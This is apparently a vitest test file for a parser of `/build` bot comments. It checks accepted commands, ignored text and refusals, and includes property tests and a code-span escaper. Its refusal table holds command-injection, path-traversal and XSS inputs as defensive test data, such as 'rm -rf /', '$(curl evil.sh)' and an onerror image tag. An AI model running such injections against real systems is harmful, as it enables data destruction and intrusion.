// The `/build` comment parser: the table of accepted and refused comments, and properties over arbitrary text.
import { describe, expect, it } from "vitest";
import fc from "fast-check";
import { BUILD_USAGE, MAX_COMMENT_LENGTH, codeSpan, parseBuildComment, planPathProblem } from "../../src/core/build-command.js";

describe("parseBuildComment: accepted commands", () => {
  it.each([
    ["/build", { kind: "build" }],
    ["/build\r\nplease", { kind: "build" }],
    ["   /build", { kind: "build" }],
    ["\t/build ", { kind: "build" }],
    ["/build \r\nsecond line /build status", { kind: "build" }],
    ["/build plans/jwt-auth.yml", { kind: "build", plan: "plans/jwt-auth.yml" }],
    ["/build .tdd-waves/plan.yaml\r\n", { kind: "build", plan: ".tdd-waves/plan.yaml" }],
    ["/build ./plan.json", { kind: "build", plan: "plan.json" }],
    ["  /build   plans/a_b-c.1.yml   ", { kind: "build", plan: "plans/a_b-c.1.yml" }],
    ["/build status", { kind: "status" }],
    ["/build  status ", { kind: "status" }],
    ["/build\tstatus\r\n", { kind: "status" }],
    ["/build retry msm-auth-001", { kind: "retry", stories: ["msm-auth-001"] }],
    ["/build retry a b  c", { kind: "retry", stories: ["a", "b", "c"] }],
    ["/build retry a a", { kind: "retry", stories: ["a"] }],
  ])("%j", (body, expected) => {
    expect(parseBuildComment(body)).toEqual(expected);
  });
});

describe("parseBuildComment: not a command", () => {
  it.each([
    "", "build", "/builder", "/build-all", "/build:", "/Build", "please /build", "> /build",
    "\n/build", "text first\n/build", "/buildstatus",
  ])("%j is ignored", (body) => {
    expect(parseBuildComment(body)).toEqual({ kind: "ignore" });
  });
});

describe("parseBuildComment: refused", () => {
  it.each([
    ["/build deploy", /unknown word `deploy`/],
    ["/build STATUS", /unknown word `STATUS`/],
    ["/build status now", /`\/build status` takes no arguments; unexpected `now`/],
    ["/build retry", /needs at least one story id/],
    ["/build retry Bad_Id", /`Bad_Id` is not a story id/],
    ["/build retry ok ../x", /`..\/x` is not a story id/],
    [`/build retry ${"a".repeat(65)}`, /is not a story id/],
    ["/build ../plan.yml", /`..\/plan.yml` leaves the repository/],
    ["/build plans/../../etc/x.yml", /leaves the repository/],
    ["/build /etc/plan.yml", /is absolute/],
    ["/build C:/plan.yml", /is absolute/],
    ["/build plans\\x.yml", /backslashes/],
    ["/build plan.txt", /must end in .yml, .yaml or .json/],
    ["/build plans/", /must end in/],
    ["/build plans//x.yml", /empty or `.` directory/],
    ["/build -rf.yml", /starting with `-`/],
    ["/build plan.yml; rm -rf /", /takes one path; unexpected `rm -rf \/`/],
    ["/build plan.yml;", /may only contain letters/],
    ["/build $(curl evil.sh).yml", /unknown word|may only contain|takes one path/],
    ["/build $(id)/x.yml", /may only contain letters/],
    ["/build `id`.yml", /may only contain letters/],
    ["/build plan.yml && echo", /takes one path/],
    ["/build plans/x.yml extra", /takes one path; unexpected `extra`/],
    ["/build plan\u0007.yml", /control characters/],
  ])("%j", (body, reason) => {
    const result = parseBuildComment(body);
    expect(result.kind).toBe("refuse");
    if (result.kind !== "refuse") return;
    expect(result.reason).toMatch(reason);
    expect(result.reason).toContain(BUILD_USAGE);
  });

  it("refuses a body over 65,536 characters, and accepts one at the limit", () => {
    const atLimit = "/build\n" + "x".repeat(MAX_COMMENT_LENGTH - "/build\n".length);
    expect(parseBuildComment(atLimit)).toEqual({ kind: "build" });
    const result = parseBuildComment(atLimit + "x");
    expect(result).toMatchObject({ kind: "refuse" });
    expect(result.kind === "refuse" && result.reason).toContain("65,537 characters long; the limit is 65,536");
  });

  it("still ignores a long body that is not a /build comment", () => {
    expect(parseBuildComment("hello\n" + "x".repeat(MAX_COMMENT_LENGTH))).toEqual({ kind: "ignore" });
  });
});

describe("parseBuildComment: properties", () => {
  const shellMeta = [";", "|", "&", "$", "`", "<", ">", "(", ")", "{", "}", "*", "?", "!", "~", "'", "\"", "\\", " ", "\t", "#", "=", "%", "\u0000", "\n"];

  it("never throws and always returns a known kind", () => {
    fc.assert(fc.property(fc.string({ unit: "binary", maxLength: 300 }), (text) => {
      const kinds = ["ignore", "build", "status", "retry", "refuse"];
      expect(kinds).toContain(parseBuildComment(text).kind);
      expect(kinds).toContain(parseBuildComment(`/build ${text}`).kind);
    }), { numRuns: 2000 });
  });

  it("never accepts a plan path with a shell metacharacter, an absolute path or a `..` segment", () => {
    const pathish = fc.array(fc.oneof(
      fc.constantFrom(...shellMeta, "..", "/", ".", "yml", ".yml", ".json", "plans", "-", "a"),
      fc.string({ maxLength: 4 }),
    ), { minLength: 1, maxLength: 12 }).map((parts) => parts.join(""));
    fc.assert(fc.property(pathish, (path) => {
      const result = parseBuildComment(`/build ${path}`);
      if (result.kind === "build" && result.plan !== undefined) {
        for (const meta of shellMeta) expect(result.plan).not.toContain(meta);
        expect(result.plan.startsWith("/")).toBe(false);
        expect(result.plan.split("/")).not.toContain("..");
        expect(result.plan).toMatch(/\.(ya?ml|json)$/);
        expect(planPathProblem(result.plan)).toBeUndefined();
      }
    }), { numRuns: 3000 });
  });

  it("accepts every well-formed relative plan path unchanged", () => {
    const segment = fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9._-]{0,10}$/).filter((s) => s !== "..");
    const path = fc.tuple(fc.array(segment, { maxLength: 3 }), segment, fc.constantFrom(".yml", ".yaml", ".json"))
      .map(([dirs, name, ext]) => [...dirs, name + ext].join("/"));
    fc.assert(fc.property(path, (p) => {
      expect(parseBuildComment(`/build ${p}`)).toEqual({ kind: "build", plan: p });
    }));
  });

  it("accepted story ids always match the id pattern", () => {
    fc.assert(fc.property(fc.array(fc.string({ maxLength: 8 }), { minLength: 1, maxLength: 5 }), (ids) => {
      const result = parseBuildComment(`/build retry ${ids.join(" ")}`);
      if (result.kind === "retry") {
        for (const id of result.stories) expect(id).toMatch(/^[a-z0-9][a-z0-9-]{0,63}$/);
      }
    }));
  });
});

describe("codeSpan", () => {
  it.each([
    ["plain", "`plain`"],
    ["a`b", "``a`b``"],
    ["``x", "``` ``x ```"],
    ["", "(empty)"],
    ["line\nbreak", "`line\uFFFDbreak`"],
    ["<img src=x onerror=alert(1)>", "`<img src=x onerror=alert(1)>`"],
  ])("%j → %j", (text, expected) => {
    expect(codeSpan(text)).toBe(expected);
  });

  it("truncates long text", () => {
    expect(codeSpan("x".repeat(200), 10)).toBe(`\`${"x".repeat(10)}…\``);
  });

  it("can never be closed early by the text it quotes", () => {
    fc.assert(fc.property(fc.string({ maxLength: 60 }), (text) => {
      const span = codeSpan(text, 100);
      if (span === "(empty)") return;
      const fence = /^`+/.exec(span)?.[0] ?? "";
      const inner = span.slice(fence.length, span.length - fence.length);
      expect(span.endsWith(fence)).toBe(true);
      expect(inner.includes(fence)).toBe(false);
      expect(inner).not.toMatch(/[\n\r]/);
    }));
  });
});
